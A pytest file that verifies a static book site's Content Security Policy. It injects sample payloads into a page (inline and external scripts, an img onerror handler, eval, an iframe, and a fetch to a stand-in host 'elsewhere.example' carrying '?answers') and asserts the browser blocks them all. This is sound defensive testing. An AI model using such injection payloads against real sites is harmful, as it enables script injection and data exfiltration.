"""The policy of each page: it refuses what doesn't come from the book, and the walks in other tests would notice.

Chromium logs what a policy refuses as an error, and a page with errors fails the tests that visit it.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.site.book import CHAPTERS, READ
from tools.site.checking import document

INTRUDE = """async () => {
  const refused = new Set();
  addEventListener("securitypolicyviolation", (event) => refused.add(event.effectiveDirective));
  const add = (name, options) => document.body.append(Object.assign(document.createElement(name), options));
  add("script", { textContent: "globalThis.intruded = 'a script in the page'" });
  add("script", { src: "https://elsewhere.example/script.js" });
  add("div", { innerHTML: `<img src="data:," onerror="globalThis.intruded = 'an attribute'">` });
  add("img", { src: "https://elsewhere.example/picture.png" });
  add("style", { textContent: "body { display: none }" });
  add("iframe", { src: "https://elsewhere.example/" });
  setTimeout(() => globalThis.eval("globalThis.intruded = 'a text'")); // later, for a debugger's own script may
  await fetch("https://elsewhere.example/?answers").catch(() => {});
  for (let i = 0; i < 100 && refused.size < 7; i++) await new Promise((done) => setTimeout(done, 20));
  return [[...refused].sort().join(' '), globalThis.intruded ?? null, document.body.checkVisibility()];
}"""


@pytest.mark.parametrize("scheme", ["http", "file"])
def test_what_gets_into_a_page_is_not_run_and_sends_nothing(
    open_page: Any, site: Path, scheme: str
) -> None:
    page = open_page(
        CHAPTERS[0] if scheme == "http" else (site / CHAPTERS[0]).as_uri(), strict=False
    )
    assert page.evaluate(INTRUDE) == [
        "connect-src frame-src img-src script-src script-src-attr script-src-elem style-src-elem",
        None,
        True,
    ]
    asked = [url for url in page.sent if "elsewhere" in url]
    assert [f"could not load {url}: csp" in page.errors for url in asked] == [True, True]
    assert sum("Content Security Policy" in error for error in page.errors) >= 7


def test_each_page_has_its_policy_first_and_no_script_in_an_attribute(site: Path) -> None:
    pages = [*site.rglob("*.html")]
    assert len(pages) > len(READ)
    for path in pages:
        text = path.read_text(encoding="utf-8")
        before, _, after = text.partition('<meta http-equiv="Content-Security-Policy" content="')
        assert "script-src" in after.split('"')[0], path
        assert not {"<script", "<link", "<style"} & set(before.split()), path
        assert document(path).handlers == [], path
